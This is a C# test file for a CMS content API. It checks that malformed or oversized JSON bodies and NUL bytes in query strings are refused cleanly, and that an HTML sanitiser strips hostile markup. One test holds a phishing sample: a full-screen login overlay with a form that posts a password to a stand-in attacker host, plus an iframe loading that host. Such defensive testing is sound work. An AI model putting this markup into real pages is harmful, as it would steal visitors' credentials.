using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using Twinning.Module.Features.Storage;
using Twinning.Web.Tests.Infrastructure;

namespace Twinning.Web.Tests.Api;

/// <summary>Hostile and careless bodies for <c>POST /api/content</c>: each is a 400 naming the body or the field (413 when
/// too large), nothing is stored, and the site keeps answering.</summary>
public sealed class ContentApiMalformedInputTests
{
    private const string Lead = """ "Article": { "Lead": { "Text": "x" } } """;

    private static async Task<(TwinningApplication App, HttpClient Editor)> StartAsync(string provider = Providers.Sqlite, IDictionary<string, string?>? settings = null)
    {
        var app = new TwinningApplication(provider, runRecipe: false, settings);
        app.CreateClient();
        Assert.True((await app.RunRecipeAsync(TestRecipes.Articles)).Succeeded);
        await app.DefineRoleAsync("Editor", "AccessContentApi", "PublishContent", "EditContent", "ViewContent");
        return (app, await app.CreateClientWithRolesAsync("Editor"));
    }

    private static Task<HttpResponseMessage> PostBytesAsync(HttpClient client, byte[] body)
    {
        var content = new ByteArrayContent(body);
        content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        return client.PostAsync("/api/content", content);
    }

    /// <summary>The messages of a 400 validation problem for <paramref name="field"/>.</summary>
    private static async Task<string> ErrorAsync(HttpResponseMessage response, string field)
    {
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var errors = (await response.JsonAsync())["errors"]!.AsObject();
        Assert.True(errors.ContainsKey(field), $"No error for '{field}' in {errors.ToJsonString()}");
        return string.Join(" ", errors[field]!.AsArray().Select(e => e!.GetValue<string>()));
    }

    private static async Task AssertNothingStoredAndStillUpAsync(TwinningApplication app)
    {
        Assert.Empty(await app.InScopeAsync(s => Task.FromResult(s.GetRequiredService<TwinningDbContext>().ContentItemVersions.ToList())));
        Assert.Equal(HttpStatusCode.OK, (await app.CreateClient().GetAsync("/health")).StatusCode);
    }

    public static TheoryData<string, string, string, string> BadBodies => new()
    {
        // case, body, field named, message fragment
        { "title as a number", $$"""{ "ContentType": "Article", "TitlePart": { "Title": 5 }, {{Lead}} }""", "TitlePart.Title", "must be text" },
        { "title as an object", $$"""{ "ContentType": "Article", "TitlePart": { "Title": { "pl": "Forum" } }, {{Lead}} }""", "TitlePart.Title", "must be text" },
        { "id as a number", $$"""{ "ContentItemId": 42, "ContentType": "Article", "TitlePart": { "Title": "Forum" }, {{Lead}} }""", "ContentItemId", "must be text, not a number" },
        { "id as an object", $$"""{ "ContentItemId": { "id": "x" }, "ContentType": "Article", "TitlePart": { "Title": "Forum" }, {{Lead}} }""", "ContentItemId", "must be text, not an object" },
        { "type as a list", $$"""{ "ContentType": ["Article"], "TitlePart": { "Title": "Forum" }, {{Lead}} }""", "ContentType", "must be text, not an array" },
        { "a key given twice", $$"""{ "ContentType": "Article", "TitlePart": { "Title": "Forum", "Title": "Inne" }, {{Lead}} }""", "body", "Duplicate property 'Title'" },
        { "a lone surrogate", $$"""{ "ContentType": "Article", "TitlePart": { "Title": "Forum \ud800" }, {{Lead}} }""", "TitlePart.Title", "lone surrogate" },
        { "a NUL in a field", """{ "ContentType": "Article", "TitlePart": { "Title": "Forum" }, "Article": { "Lead": { "Text": "a\u0000b" } } }""", "Article.Lead.Text", "NUL" },
        { "a NUL in a name", $$"""{ "ContentType": "Article", "TitlePart": { "Title": "Forum", "Ex\u0000tra": "x" }, {{Lead}} }""", "TitlePart.Ex\0tra", "NUL" },
        { "a latitude beyond any number", """{ "ContentType": "Article", "TitlePart": { "Title": "Forum" }, "Article": { "Lead": { "Text": "x" }, "Location": { "Latitude": 1e400, "Longitude": 18.6 } } }""", "Article.Location.Latitude", "from -90 to 90" },
        { "JSON nested 100 deep", $$"""{ "ContentType": "Article", "TitlePart": { "Title": "Forum" }, {{Lead}}, "Deep": {{new string('[', 100)}}{{new string(']', 100)}} }""", "body", "maximum configured depth of 64" },
    };

    [Theory]
    [MemberData(nameof(BadBodies))]
    public async Task AMalformedBodyIsAValidationProblemNamingTheFieldAndStoresNothing(string name, string body, string field, string message)
    {
        var (app, editor) = await StartAsync();
        using var _ = app;

        var response = await editor.PostItemAsync(body);

        Assert.Contains(message, await ErrorAsync(response, field), StringComparison.Ordinal);
        await AssertNothingStoredAndStillUpAsync(app);
        Assert.NotNull(name);
    }

    [Fact]
    public async Task InvalidUtf8IsAValidationProblemNamingTheBody()
    {
        var (app, editor) = await StartAsync();
        using var _ = app;
        byte[] body = [.. """{ "ContentType": "Article", "TitlePart": { "Title": "Gda"""u8, 0xC3, 0x28, .. """sk" }, "Article": { "Lead": { "Text": "x" } } }"""u8];

        var response = await PostBytesAsync(editor, body);

        Assert.Contains("UTF-8", await ErrorAsync(response, "body"), StringComparison.Ordinal);
        await AssertNothingStoredAndStillUpAsync(app);
    }

    [Theory]
    [MemberData(nameof(Providers.All), MemberType = typeof(Providers))]
    public async Task ANulCharacterIsRefusedAlikeOnEveryDatabase(string provider)
    {
        var (app, editor) = await StartAsync(provider);
        using var _ = app;

        var response = await editor.PostItemAsync("""{ "ContentType": "Article", "TitlePart": { "Title": "Forum\u0000" }, "Article": { "Lead": { "Text": "x" } } }""");

        Assert.Contains("NUL", await ErrorAsync(response, "TitlePart.Title"), StringComparison.Ordinal);
        await AssertNothingStoredAndStillUpAsync(app);
    }

    [Fact]
    public async Task ATaxonomyIdThatIsNotTextIsAValidationProblemNamingIt()
    {
        var (app, editor) = await StartAsync();
        using var _ = app;
        var recipe = await app.RunRecipeAsync("""
            { "name": "poster", "steps": [ { "name": "ContentDefinition",
              "ContentTypes": [ { "Name": "Poster", "Settings": { "ContentTypeSettings": { "Creatable": true } }, "ContentTypePartDefinitionRecords": [ { "PartName": "Poster", "Name": "Poster" } ] } ],
              "ContentParts": [ { "Name": "Poster", "ContentPartFieldDefinitionRecords": [ { "FieldName": "TaxonomyField", "Name": "Areas" } ] } ] } ] }
            """);
        Assert.True(recipe.Succeeded, recipe.ToString());

        var response = await editor.PostItemAsync("""{ "ContentType": "Poster", "Poster": { "Areas": { "TaxonomyContentItemId": 5, "TermContentItemIds": ["4forumgdansk2017000000000a"] } } }""");

        Assert.Contains("must be text", await ErrorAsync(response, "Poster.Areas.TaxonomyContentItemId"), StringComparison.Ordinal);
        await AssertNothingStoredAndStillUpAsync(app);
    }

    [Fact]
    public async Task A40MegabyteBodyIsRefusedAs413()
    {
        var (app, editor) = await StartAsync();
        using var _ = app;
        var body = Encoding.UTF8.GetBytes($$"""{ "ContentType": "Article", "TitlePart": { "Title": "{{new string('a', 40_000_000)}}" } }""");

        var response = await PostBytesAsync(editor, body);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        await AssertNothingStoredAndStillUpAsync(app);
    }

    [Fact]
    public async Task ABodyWithoutALengthIsCutOffAtTheConfiguredLimit()
    {
        var (app, editor) = await StartAsync(settings: new Dictionary<string, string?> { ["Twinning:Api:MaxRequestBodySize"] = "1000" });
        using var _ = app;
        var small = $$"""{ "ContentType": "Article", "TitlePart": { "Title": "Krótki" }, {{Lead}} }""";
        var large = $$"""{ "ContentType": "Article", "TitlePart": { "Title": "{{new string('a', 2000)}}" }, {{Lead}} }""";

        var refused = await editor.PostAsync("/api/content", new UnsizedJson(large));
        var accepted = await editor.PostAsync("/api/content", new UnsizedJson(small));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, refused.StatusCode);
        Assert.Contains("1,000 bytes", (await refused.JsonAsync())["detail"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, accepted.StatusCode);
    }

    [Theory]
    [InlineData("HtmlBodyPart", "HtmlBodyPart.Html")]
    [InlineData("Note", "Article.Note.Html")]
    public async Task HtmlNested100000DeepIsRefusedQuicklyNamingTheField(string where, string field)
    {
        var (app, editor) = await StartAsync();
        using var _ = app;
        var html = JsonValue.Create(string.Concat(Enumerable.Repeat("<div>", 100_000)) + "x" + string.Concat(Enumerable.Repeat("</div>", 100_000)))!.ToJsonString();
        var body = where == "HtmlBodyPart"
            ? $$"""{ "ContentType": "Article", "TitlePart": { "Title": "Głęboko" }, "HtmlBodyPart": { "Html": {{html}} }, {{Lead}} }"""
            : $$"""{ "ContentType": "Article", "TitlePart": { "Title": "Głęboko" }, "Article": { "Lead": { "Text": "x" }, "Note": { "Html": {{html}} } } }""";
        var clock = Stopwatch.StartNew();

        var response = await editor.PostItemAsync(body);

        Assert.Contains("more than 128 levels deep", await ErrorAsync(response, field), StringComparison.Ordinal);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"Refusing took {clock.Elapsed}.");
        await AssertNothingStoredAndStillUpAsync(app);
    }

    [Fact]
    public async Task EditorsMarkupIsKeptAndFormsOverlaysAndScriptsAreRemoved()
    {
        var (app, editor) = await StartAsync();
        using var _ = app;
        const string kept = """<h2>Program</h2><p>Forum <strong>Miast</strong> <em>Partnerskich</em> <a href="https://gdansk.pl/forum">więcej</a></p><ul><li>Dzień 1</li></ul><figure><img src="/media/logo.png" alt="Herb"><figcaption>Herb</figcaption></figure><table><tbody><tr><td>9:00</td></tr></tbody></table><blockquote>Cytat</blockquote><pre><code>x</code></pre>""";
        const string hostile = """<div style="position:fixed; inset:0; z-index:9999">Zaloguj się</div><form action="https://evil.example/steal"><input type="password" name="p"><button>OK</button></form><iframe src="https://evil.example"></iframe>""";

        var response = await editor.PostItemAsync($$"""{ "ContentType": "Article", "TitlePart": { "Title": "Znaczniki" }, "HtmlBodyPart": { "Html": {{JsonValue.Create(kept + hostile)!.ToJsonString()}} }, {{Lead}} }""");
        var stored = (await response.JsonAsync())["HtmlBodyPart"]!["Html"]!.GetValue<string>();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith(kept, stored, StringComparison.Ordinal);
        foreach (var gone in new[] { "style", "position", "<form", "evil.example", "<input", "password", "<button", "<iframe" })
        {
            Assert.DoesNotContain(gone, stored, StringComparison.OrdinalIgnoreCase);
        }
    }

    /// <summary>A JSON body sent without a Content-Length, as a streaming client sends it.</summary>
    private sealed class UnsizedJson : HttpContent
    {
        private readonly byte[] _bytes;

        public UnsizedJson(string json)
        {
            _bytes = Encoding.UTF8.GetBytes(json);
            Headers.ContentType = new MediaTypeHeaderValue("application/json");
        }

        protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) => stream.WriteAsync(_bytes).AsTask();

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }

    /// <summary>A NUL in the query string, asked anonymously: PostgreSQL refused it in the SQL's parameters and the answer
    /// was a server error, while SQLite answered (GraphQL failed on both).</summary>
    [Theory]
    [MemberData(nameof(Providers.All), MemberType = typeof(Providers))]
    public async Task ANulInTheQueryStringIsA400NamingTheParameter(string provider)
    {
        // The municipal site, whose visitors may read content: the query reaches the database.
        using var app = new TwinningApplication(provider);
        var client = app.CreateClient();
        var graphql = "/api/graphql?query=" + Uri.EscapeDataString("{ forum(where: { displayText: \"a\u0000b\" }) { displayText } }");

        foreach (var (url, field) in new[] { ("/api/content?culture=%00", "culture"), ("/api/content/by-path?path=a%00b", "path"), (graphql, "query") })
        {
            Assert.Contains("NUL", await ErrorAsync(await client.GetAsync(url), field), StringComparison.Ordinal);
        }
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync("/health")).StatusCode);
    }
}
